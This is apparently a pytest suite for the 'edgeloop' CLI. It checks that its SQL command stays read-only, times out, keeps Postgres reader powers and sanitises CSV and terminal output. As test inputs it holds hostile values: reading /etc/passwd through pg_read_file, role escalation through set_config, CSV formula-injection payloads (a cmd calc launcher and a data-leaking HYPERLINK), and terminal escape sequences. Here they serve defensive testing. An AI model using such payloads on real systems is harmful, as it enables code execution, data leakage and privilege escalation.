"""`edgeloop sql` and the CSV of `edgeloop uplift`: what is read, refused, cut off and shown."""

from __future__ import annotations

import builtins
import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import psycopg
import pytest

from edgeloop.app import answers
from edgeloop.app.cli import run
from edgeloop.app.frozen import find_freeze
from edgeloop.app.output import print_rows
from edgeloop.app.sql import Answer, ask_store
from edgeloop.app.sql_freeze import ask_freeze
from edgeloop.errors import UsageError
from edgeloop.home import Home
from edgeloop.settings import Settings, StoreSettings
from edgeloop.store.base import StatementError
from edgeloop.store.freeze import FreezeError
from edgeloop.store.postgres import PostgresStore
from edgeloop.store.rows import Estimate
from edgeloop.store.schema import ESTIMATES
from edgeloop.store.views import VIEWS
from tests.pipeline import COUNTS
from tests.small_company import CUSTOMERS, HOSTILE, MONTH, make_frozen
from tests.stores import batch, exposure, letter, write

SEALED_BY_FUNCTION = "query_to_xml('SELECT sealed FROM dead_letters', true, false, '')"
ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"


class Shell:
    """Runs commands in one home."""

    def __init__(self, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.home, self._capsys = home, capsys

    def __call__(self, *arguments: str, code: int = 0) -> tuple[str, str]:
        """(stdout, stderr) of a command that must end with that code."""
        self._capsys.readouterr()
        found = run([*arguments, "--home", str(self.home)])
        out, err = self._capsys.readouterr()
        assert found == code, err
        return out, err

    def rows(self, *arguments: str) -> list[dict[str, Any]]:
        """What a command prints as JSON."""
        found: list[dict[str, Any]] = json.loads(self(*arguments, "--json")[0])
        return found


@pytest.fixture(scope="module")
def company(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_frozen(tmp_path_factory.mktemp("company") / "home")


@pytest.fixture
def shell(company: Path, capsys: pytest.CaptureFixture[str]) -> Shell:
    return Shell(company, capsys)


PLACES = [(), ("--freeze", MONTH)]


@pytest.mark.parametrize("place", PLACES, ids=["store", "freeze"])
@pytest.mark.parametrize(
    ("statement", "says"),
    [
        ("DELETE FROM exposures", "read-only"),
        ("CREATE TABLE t(x int)", "read-only"),
        ("INSERT INTO changes SELECT * FROM changes", "read-only"),
        ("BEGIN", "read-only"),
        ("COPY exposures TO 'x'", ""),
        ("ATTACH 'x.db' AS y", "read-only"),
        ("PRAGMA journal_mode = 'off'", "read-only"),
        ("SET memory_limit = '1GB'", ""),
        ("SELECT 1; SELECT 2", "a second one behind it"),
        ("SELECT 1; DELETE FROM exposures", "a second one behind it"),
        ("", "no statement"),
        ("/* nothing */ ;", "no statement"),
        ("SELECT * FROM expsures", "Is `exposures` meant? `edgeloop tables`"),
        ("SELECT modelid FROM exposures", "Is `model_id` meant? `edgeloop tables`"),
        ("SELECT (", "`edgeloop tables`"),
    ],
)
def test_what_is_refused_says_why_and_changes_nothing(
    shell: Shell, place: tuple[str, ...], statement: str, says: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    out, err = shell("sql", statement, *place, code=2)
    assert out == ""
    assert says in err
    assert "Traceback" not in err
    assert err.count("\n") == 1, "one sentence"
    assert not list(tmp_path.iterdir()), "no file was made"
    assert shell.rows("sql", "SELECT count(*) AS n FROM exposures", *place) == [{"n": CUSTOMERS}]


@pytest.mark.parametrize(
    "statement",
    ["SELECT 1 AS a;", "SELECT 1 AS a -- why", "/* first */ SELECT 1 AS a ; ", "WITH x AS (SELECT 1 AS a) TABLE x"],
)
def test_a_tail_that_says_nothing_is_no_second_statement(shell: Shell, statement: str) -> None:
    if "TABLE x" not in statement:  # not SQLite's
        assert shell.rows("sql", statement) == [{"a": 1}]
    assert shell.rows("sql", statement, "--freeze", MONTH) == [{"a": 1}]


def test_a_freeze_shows_nothing_but_itself(shell: Shell, tmp_path: Path) -> None:
    (tmp_path / "x.csv").write_text("a\n1\n")
    for source in (f"read_csv('{tmp_path}/x.csv')", f"'{tmp_path}/x.csv'", f"read_text('{tmp_path}/*')", "glob('/*')"):
        shell("sql", f"SELECT * FROM {source}", "--freeze", MONTH, code=2)
    files = shell.home / "freezes" / MONTH
    before = {path.name: path.read_bytes() for path in files.iterdir()}
    shell("sql", f"COPY (SELECT 1) TO '{files / 'changes.parquet'}'", "--freeze", MONTH, code=2)
    assert {path.name: path.read_bytes() for path in files.iterdir()} == before


@pytest.mark.parametrize("place", PLACES, ids=["store", "freeze"])
def test_a_statement_that_takes_too_long_is_stopped(shell: Shell, place: tuple[str, ...]) -> None:
    begun = time.monotonic()
    _, err = shell("sql", ENDLESS, "--timeout-s", "0.3", *place, code=2)
    assert time.monotonic() - begun < 10
    assert "took longer than 0.3 s and was stopped" in err
    assert "--timeout-s" in shell("sql", "SELECT 1", "--timeout-s", "0", code=2)[1]


@pytest.mark.parametrize("view", [view.name for view in VIEWS])
def test_every_view_says_the_same_of_the_freeze_as_of_the_store(shell: Shell, view: str) -> None:
    """The freeze goes on for the longest window of any metric, so nothing of this company lies beyond it."""
    condition = "" if view == "freshness" else " WHERE day < '2026-04-01'" if "day" in _columns(shell, view) else ""
    query = f"SELECT * FROM {view}{condition}"
    live, frozen = (shell.rows("sql", query, *place) for place in PLACES)
    assert live
    if view == "freshness":
        by_name = [{row["table_name"]: row["rows"] for row in rows} for rows in (live, frozen)]
        assert by_name[0] == by_name[1]
        return
    assert _sorted(live) == _sorted(frozen)


def _columns(shell: Shell, view: str) -> list[str]:
    return shell("sql", f"SELECT * FROM {view} LIMIT 0")[0].split()


def _sorted(rows: list[dict[str, Any]]) -> list[str]:
    return sorted(repr([round(cell, 6) if isinstance(cell, float) else cell for cell in row.values()]) for row in rows)


def test_times_of_a_freeze_are_rfc_3339_and_booleans_are_booleans(shell: Shell) -> None:
    query = "SELECT occurred_at, fallback, NULL AS absent FROM exposures ORDER BY occurred_at, exposure_id LIMIT 1"
    assert shell.rows("sql", query, "--freeze", MONTH) == [
        {"occurred_at": "2026-03-02T08:00:00Z", "fallback": True, "absent": None}
    ]
    assert shell.rows("sql", query) == [{"occurred_at": 1772438400000000, "fallback": 1, "absent": None}]


def test_a_freeze_is_found_by_month_and_by_the_beginning_of_its_id(shell: Shell) -> None:
    home = Home(shell.home)
    found = find_freeze(home, MONTH)
    whole = found.manifest.freeze_id
    assert find_freeze(home, whole).path == find_freeze(home, whole[:11]).path == found.path
    for name in ("2026-02", "", "2026-0", "2026-03-zzzz", "../2026"):
        with pytest.raises(UsageError, match=rf"there is no freeze .*there: {whole}"):
            find_freeze(home, name)


def test_a_freeze_that_was_changed_is_not_asked(shell: Shell, tmp_path: Path) -> None:
    freeze = find_freeze(Home(shell.home), MONTH)
    file = freeze.path / "exposures.parquet"
    whole = file.read_bytes()
    try:
        file.write_bytes(whole[:-9] + b"X" + whole[-8:])
        with pytest.raises(FreezeError, match=r"exposures\.parquet is not the file"):
            ask_freeze(freeze, "SELECT 1")
    finally:
        file.write_bytes(whole)


def test_without_duckdb_it_says_what_to_install(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def refuse(name: str, *rest: Any, **more: Any) -> Any:
        if name == "duckdb":
            raise ImportError(name)
        return real(name, *rest, **more)

    monkeypatch.setattr(builtins, "__import__", refuse)
    _, err = shell("sql", "SELECT 1", "--freeze", MONTH, code=1)
    assert "pip install 'edgeloop[duckdb]'" in err
    assert shell("sql", "SELECT 1 AS one")[0] == "one\n1\n", "the store needs none"


def test_sealed_bytes_are_not_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    home = tmp_path / "home"
    bad = tmp_path / "bad.ndjson"
    bad.write_text("nonsense\n")
    assert run(["ingest", str(bad), "--home", str(home)]) == 3
    assert run(["process", "--home", str(home)]) == 0
    shell = Shell(home, capsys)
    out, err = shell("sql", "SELECT * FROM dead_letters", "--json")
    (row,) = json.loads(out)
    assert row["size"] == 8
    assert row["sealed"] is None
    assert "edgeloop dead-letters show" in err
    for hidden in ("hex(sealed)", "length(sealed)", "quote(sealed)", "max(sealed)"):
        (row,) = shell.rows("sql", f"SELECT {hidden} AS told FROM dead_letters")
        assert row["told"] in (None, "", "NULL"), hidden
    (row,) = shell.rows("sql", "SELECT a.told FROM (SELECT sealed AS told FROM dead_letters) AS a")
    assert row["told"] is None


@pytest.mark.slow
def test_a_postgres_store_is_asked_with_the_powers_of_the_reader(database_url: str, tmp_path: Path) -> None:
    store = PostgresStore(database_url, reader_role="edgeloop_reader")
    writes = batch(store)
    for number in range(3):
        writes.insert("exposures", exposure(number))
    writes.insert("dead_letters", letter(1))
    write(store, writes)
    store.close()
    settings = Settings(store=StoreSettings(url=database_url))
    with psycopg.connect(database_url) as db:
        ((owner,),) = db.execute("SELECT session_user").fetchall()

    def ask(query: str, *bindings: Any, **more: Any) -> Answer:
        return ask_store(Home(tmp_path), settings, query, bindings, **more)

    answer = ask("SELECT exposure_id, occurred_at FROM exposures WHERE subject <> ? ORDER BY 1", "s1", max_rows=1)
    assert (answer.names, answer.kinds) == (["exposure_id", "occurred_at"], ["text", "time"])
    assert (answer.rows, answer.more) == ([("e0", 1769000000000000)], True)
    (row,) = ask("SELECT occurred_at FROM exposures LIMIT 1", times="text").rows
    assert row == ("2026-01-21T12:53:20Z",)
    ((user, as_whom),) = ask("SELECT session_user, current_user").rows
    assert user == as_whom
    assert user.startswith("edgeloop_reader_sql_")
    assert ask("SELECT dead_letter_id FROM dead_letters").rows == [("id1",)]
    assert ask(COUNTS).rows == [(3, 0, 0, 0, 0)]
    for query, says in (
        ("DELETE FROM exposures", "read-only"),
        ("SELECT 1; SELECT 2", "a second one behind it"),
        ("", "no statement"),
        ("SET ROLE none", "read-only"),
        ("COPY exposures TO STDOUT", "read-only"),
        ("SELECT * FROM dead_letters", "edgeloop dead-letters show"),
        ("SELECT * FROM edgeloop.heads", "reader_role"),
        ("SELECT pg_read_file('/etc/passwd')", "permission denied"),
        # Powers that a session had given up came back so, inside one statement.
        (f"SELECT set_config('role', 'none', true), {SEALED_BY_FUNCTION}", "permission denied"),
        (f"SELECT set_config('role', '{owner}', true), {SEALED_BY_FUNCTION}", "permission denied"),
        (f"SELECT set_config('session_authorization', '{owner}', true), {SEALED_BY_FUNCTION}", "permission denied"),
        ("SELECT modelid FROM exposures", "Is `model_id` meant"),
        ("SELECT * FROM expsures", "Is `exposures` meant"),
    ):
        with pytest.raises(StatementError, match=re.escape(says)):
            ask(query)
    with pytest.raises(StatementError, match=r"longer than 0\.2 s"):
        ask("SELECT pg_sleep(20)", timeout_s=0.2)
    with psycopg.connect(database_url) as db:
        assert db.execute("SELECT count(*) FROM exposures").fetchall() == [(3,)]


def test_csv_is_whole_and_runs_nothing_in_a_spreadsheet(shell: Shell) -> None:
    query = "SELECT site, -latency_ms AS latency, features, courier FROM exposures ORDER BY exposure_id"
    out, err = shell("sql", query, "--csv")
    assert err == ""
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["site", "latency", "features", "courier"]
    assert len(rows) == CUSTOMERS + 1, "no limit but on a terminal"
    assert {row[0] for row in rows[1:]} == {f"'{HOSTILE}", "'-hub 7"}
    assert all(float(row[1]) < 0 for row in rows[1:]), "a negative number is a number"
    exact = [row["latency"] for row in shell.rows("sql", query)]
    assert [float(row[1]) for row in rows[1:]] == exact
    assert "either" in shell("sql", "SELECT 1", "--csv", "--json", code=2)[1]


def test_a_pipe_has_all_digits_of_a_number(shell: Shell) -> None:
    query = "SELECT 1234567.89 AS revenue, 0.1234567890123 AS share, 12.0 AS whole, 5 AS n, NULL AS none"
    out, _ = shell("sql", query)
    assert out == "revenue\tshare\twhole\tn\tnone\n1234567.89\t0.1234567890123\t12\t5\t\n"


def test_cells_of_csv(capsys: pytest.CaptureFixture[str]) -> None:
    answers.print_csv(
        ["=a", "b"],
        [("=1", -1), ("+1", 0.1), ("-", None), ("@x", True), ("\tx", b"12"), ('say "x", y\nz', [1, {"a": 2}])],
    )
    assert capsys.readouterr().out == (
        '\'=a,b\n\'=1,-1\n\'+1,0.1\n\'-,\n\'@x,true\n\'\tx,(2 bytes)\n"say ""x"", y\nz","[1,{""a"":2}]"\n'
    )


@pytest.mark.parametrize("between", [";", "; ", "\t", "\r\n", "\n", ';"', ';" "'])
@pytest.mark.parametrize("formula", ["=1+cmd|' /C calc'!A0", '=HYPERLINK("http://e/"&A1)', "+1", "-1", "@x", "＝1"])
def test_no_cell_is_a_formula_where_another_separator_is_used(
    between: str, formula: str, capsys: pytest.CaptureFixture[str]
) -> None:
    answers.print_csv(["a", "b"], [("nps", f"great {between}{formula}"), ("x", f"{between}{formula}")])
    out = capsys.readouterr().out
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
            assert not any(line.lstrip(' "').startswith(tuple("=+-@＝")) for cell in row for line in cell.splitlines())


def test_two_columns_of_one_name_are_both_in_the_json(shell: Shell) -> None:
    assert shell.rows("sql", "SELECT 1 AS x, 2 AS x, 3 AS x_2") == [{"x": 1, "x_2": 2, "x_2_2": 3}]


@pytest.mark.parametrize("terminal", [True, False])
def test_no_table_steers_a_terminal(terminal: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = io.StringIO()
    monkeypatch.setattr(shown, "isatty", lambda: terminal, raising=False)
    monkeypatch.setattr(sys, "stdout", shown)
    monkeypatch.setenv("TERM", "dumb")  # else the head of the table is bold
    evil = "a\x1b]0;owned\x07\x1b[2J\x9b2Jb\rc\td\ne"
    print_rows((evil, "n"), [(evil, 1)], as_json=False)
    assert "owned" in shown.getvalue()
    assert not set(shown.getvalue()) & {"\x1b", "\x07", "\x9b", "\r"}
    assert shown.getvalue().count("\n") == 2


def on_a_terminal(home: Path, *arguments: str, columns: int = 100) -> str:
    """What a command shows on a terminal of that width, stdout and stderr together."""
    here, there = pty.openpty()
    ran = subprocess.Popen(
        [sys.executable, "-m", "edgeloop", *arguments, "--home", str(home)],
        stdin=there, stdout=there, stderr=there,
        env={**os.environ, "COLUMNS": str(columns), "TERM": "xterm", "NO_COLOR": "1"},
    )  # fmt: skip
    os.close(there)
    shown = b""
    while True:
        try:
            block = os.read(here, 65536)
        except OSError:  # the terminal closes with the last process on it
            break
        if not block:
            break
        shown += block
    os.close(here)
    assert ran.wait() == 0, shown
    return shown.decode().replace("\r\n", "\n")


@pytest.mark.slow
def test_on_a_terminal_rows_are_limited_and_times_are_readable(company: Path) -> None:
    shown = on_a_terminal(company, "sql", "SELECT exposure_id, occurred_at FROM exposures ORDER BY occurred_at")
    assert "2026-03-02T08:00:00Z" in shown
    assert len(shown.splitlines()) == 1 + answers.ROWS_ON_A_TERMINAL + 1
    assert "the first 200 rows; --csv" in shown.splitlines()[-1]
    wide = on_a_terminal(company, "sql", "SELECT * FROM exposures")
    assert "── 1 ─" in wide
    assert max(map(len, wide.splitlines())) <= 100 + 60
    assert "the first 20 rows" in wide
    assert "no rows" in on_a_terminal(company, "sql", "SELECT 1 AS one WHERE 1 = 0")
    assert "\x1b[31m" not in on_a_terminal(company, "sql", "SELECT char(27) || '[31m' AS red")


def test_uplift_as_csv_has_the_columns_of_estimates(shell: Shell) -> None:
    out, _ = shell("uplift", "--month", MONTH, "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(Estimate.__struct_fields__)
    wanted = shell.rows("uplift", "--month", MONTH)
    assert len(rows) == len(wanted) > 0
    for row, estimate in zip(rows, wanted, strict=True):
        for name, cell in estimate.items():
            text = row[name]
            if cell is None:
                assert text == ""
            elif isinstance(cell, str):
                assert text.removeprefix("'") == cell
            elif isinstance(cell, list):
                assert json.loads(text) == cell
            else:
                assert float(text) == cell
    assert "either" in shell("uplift", "--month", MONTH, "--csv", "--json", code=2)[1]


@pytest.mark.parametrize(
    "column",
    ["metric_kind", "unit", "respondent", "dimension", "estimator", "grade", "p_adjust", "decided_by", "verdict"],
)
def test_the_dictionary_names_every_value_that_estimates_have(shell: Shell, column: str) -> None:
    (meaning,) = [c.comment for c in ESTIMATES.columns if c.name == column]
    found = {row[column] for row in shell.rows("uplift", "--month", "2026-03")} - {None}
    assert found
    for value in found:
        assert value.partition("+")[0] in meaning, value


def test_the_meaning_names_every_check(shell: Shell) -> None:
    meaning = (Path(__file__).parents[1] / "docs" / "meaning.md").read_text(encoding="utf-8")
    shell("uplift", "--month", "2026-03")
    found = {row["check"].partition(":")[0] for row in shell.rows("sql", 'SELECT DISTINCT "check" FROM checks')}
    assert len(found) > 5
    for check in found:
        assert f"`{check}" in meaning, check
